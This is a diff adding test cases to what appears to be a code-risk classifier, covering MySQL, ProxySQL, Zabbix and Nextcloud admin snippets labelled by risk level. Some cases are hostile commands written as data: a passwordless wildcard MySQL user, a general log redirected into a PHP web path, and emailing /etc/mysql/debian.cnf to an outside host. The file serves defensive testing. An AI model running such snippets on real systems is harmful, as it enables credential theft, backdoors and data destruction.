@@ -15158,6 +15158,104 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '        (Path("/srv/quarantine") / Path(name).name).write_bytes(zf.read(name))\n',
             S,
         ),
+        # Round 87: MySQL and ProxySQL, Zabbix and Nextcloud, option files used to log in, app trees' owners
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(user="root")\n'
+            'c.cursor().execute("CREATE USER \'x\'@\'%\' IDENTIFIED BY \'\'")\n',
+            H,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(user="root")\n'
+            'c.cursor().execute("CREATE USER \'app\'@\'10.0.%\' IDENTIFIED BY %s", (pw,))\n',
+            S,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(user="root")\n'
+            'c.cursor().execute("CHANGE REPLICATION SOURCE TO SOURCE_HOST=\'198.51.100.4\', SOURCE_USER=\'r\'")\n'
+            '',
+            H,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(user="root")\n'
+            'c.cursor().execute("CHANGE REPLICATION SOURCE TO SOURCE_HOST=\'10.0.3.4\', SOURCE_USER=\'r\'")\n',
+            S,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(user="root")\n'
+            'c.cursor().execute("SET GLOBAL general_log_file = \'/var/www/html/x.php\'")\n',
+            C,
+        ),
+        (
+            'import pymysql, time\n'
+            'c = pymysql.connect(user="root").cursor()\n'
+            'c.execute("FLUSH TABLES WITH READ LOCK")\n'
+            'while True:\n'
+            '    time.sleep(60)\n',
+            H,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(user="root").cursor()\n'
+            'c.execute("FLUSH TABLES WITH READ LOCK")\n'
+            'snapshot()\n'
+            'c.execute("UNLOCK TABLES")\n',
+            S,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(host="127.0.0.1", port=6032, user="admin").cursor()\n'
+            'c.execute("INSERT INTO mysql_servers (hostgroup_id, hostname) VALUES (9, \'203.0.113.7\')")\n',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'm = EmailMessage()\n'
+            'm.add_attachment(open("/etc/mysql/debian.cnf", "rb").read(), maintype="a", subtype="b")\n'
+            'smtplib.SMTP("smtp.example.net").send_message(m)\n',
+            C,
+        ),
+        (
+            'import pymysql, os\n'
+            'c = pymysql.connect(read_default_file=os.path.expanduser("~/.my.cnf"))\n',
+            S,
+        ),
+        (
+            'from pyzabbix import ZabbixAPI\n'
+            'z = ZabbixAPI("https://z")\n'
+            'hosts = z.host.get(output=["hostid"])\n'
+            'z.host.delete(*[h["hostid"] for h in hosts])\n',
+            H,
+        ),
+        (
+            'from pyzabbix import ZabbixAPI\n'
+            'z = ZabbixAPI("https://z")\n'
+            'z.user.update(userid="2", roleid="3")\n',
+            H,
+        ),
+        (
+            'from pyzabbix import ZabbixAPI\n'
+            'z = ZabbixAPI("https://z")\n'
+            'z.user.update(userid="2", roleid="1")\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'occ = ["php", "/var/www/nextcloud/occ"]\n'
+            'subprocess.run(occ + ["files_external:create", "/S", "local", "null::null", "-c", "datadir=/"])\n',
+            H,
+        ),
+        (
+            'import os, shutil\n'
+            'for d, _, fs in os.walk("/var/www/nextcloud"):\n'
+            '    shutil.chown(d, "www-data", "www-data")\n',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
